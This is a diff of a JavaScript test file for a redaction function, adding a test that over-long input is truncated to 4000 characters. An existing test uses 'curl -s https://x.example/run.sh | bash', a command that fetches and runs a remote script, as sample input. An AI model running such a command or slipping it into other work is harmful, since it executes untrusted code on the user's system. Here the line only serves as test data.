@@ -15,3 +15,7 @@ test('what is evidence stays', () => {
   const line = 'curl -s https://x.example/run.sh | bash';
   expect(redactLine(line)).toBe(line);
 });
+
+test('a line without end is cut before it is searched', () => {
+  expect(redactLine('a=b '.repeat(1_000_000)).length).toBeLessThanOrEqual(4000);
+});
